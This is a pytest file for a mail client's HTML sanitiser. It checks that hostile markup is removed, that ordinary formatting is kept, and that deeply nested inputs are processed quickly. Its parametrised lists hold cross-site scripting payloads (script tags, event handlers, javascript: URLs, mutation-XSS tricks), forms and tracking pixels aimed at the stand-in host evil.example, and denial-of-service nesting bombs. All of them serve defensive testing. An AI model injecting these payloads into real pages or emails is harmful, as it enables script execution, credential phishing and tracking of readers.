"""The HTML of a mail is shown without anything that acts, loads or covers."""

import time

import pytest

from puntuale.apps.post.html.clean import document, remote_images, safe_html


def cleaned(html: str) -> str:
    clean = safe_html(html, image_url=lambda content_id: f"/files/{content_id}")
    assert clean is not None
    return clean


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='java&#10;script:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<iframe src='//evil.example'></iframe>",
        "<object data='//evil.example'></object><embed src='//evil.example'>",
        "<form action='//evil.example'><input name=password><button>ok</button></form>",
        "<base href='//evil.example/'>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href='//evil.example/x.css'>",
        "<style>@import '//evil.example/x.css';body{display:none}</style>",
        "<div style='background:url(//evil.example/x)'>x</div>",
        "<div style='background-color:red;position:fixed;inset:0;z-index:99'>x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<div style='color:\\75rl(//evil.example)'>x</div>",
        "<img src='https://evil.example/pixel.gif'>",
        "<img srcset='https://evil.example/pixel.gif 2x'>",
        "<video poster='//evil.example/x'><source src='//evil.example/y'></video>",
        "<table background='//evil.example/x'><tr><td>x</td></tr></table>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<!--[if mso]><img src=x onerror=alert(1)><![endif]-->",
        "<p id=main class=masthead name=csrf>x</p>",
        "<<script>script>alert(1)<</script>/script>",
        "<a href='//evil.example' ping='//evil.example'>x</a><isindex action=javascript:x>",
        "<template><script>alert(1)</script></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
    ],
)
def test_41_nothing_hostile_is_left(hostile):
    clean = cleaned(hostile + "<p>Hello</p>").lower()

    tags = "".join(part.partition(">")[0] for part in clean.split("<")[1:])
    for word in ("script", "onerror", "onload", "iframe", "object", "embed", "form", "input"):
        assert word not in tags
    for word in ("position", "z-index", "url(", "expression", "@import", "srcset", "ping=", "id="):
        assert word not in tags
    assert "evil.example" not in tags.replace('href="//evil.example"', "")
    assert " src=" not in tags


def test_what_a_person_wrote_stays():
    kept = (
        "<p>Dear <b>all</b>,</p><ul><li>one</li></ul><blockquote>quoted</blockquote>"
        '<table border="1"><tbody><tr><td style="color:red">red</td></tr></tbody></table>'
    )

    assert cleaned(kept) == kept


def test_an_image_of_the_mail_stands_where_it_stood():
    assert cleaned('<img src="cid:logo@x" alt="Logo">') == '<img src="/files/logo@x" alt="Logo">'


def test_an_image_from_elsewhere_leaves_its_words():
    html = '<img src="https://shop.example/a.png" alt="Our shop">'

    assert cleaned(html) == '<img alt="Our shop">'
    assert remote_images(html) == ["https://shop.example/a.png"]


def test_a_link_opens_elsewhere_and_tells_nothing():
    clean = cleaned('<a href="https://officina.example/">here</a>')

    assert 'target="_blank"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 5_000,
        "<div>" * 200_000,
        "".join(f"<font color=#{n:06x}>" for n in range(50_000)),
        "<font size=1><textarea></font></textarea>" * 20_000,
        "<b><i><u>" * 30_000 + "<p>x" * 30_000,
        "<table><tr><td>" * 20_000,
        "<!--" * 300_000,
        "<style>" * 100_000,
        "<a href=x>" * 5_000,
        "x" * 5_000_000,
    ],
    ids=lambda bomb: f"{bomb[:12]}…{len(bomb)}",
)
def test_41_a_bomb_costs_a_moment(bomb):
    began = time.process_time()

    safe_html(bomb)

    assert time.process_time() - began < 2


def test_the_frame_names_the_language():
    assert document("<p>ciao</p>", language="it").startswith('<!doctype html><html lang="it">')
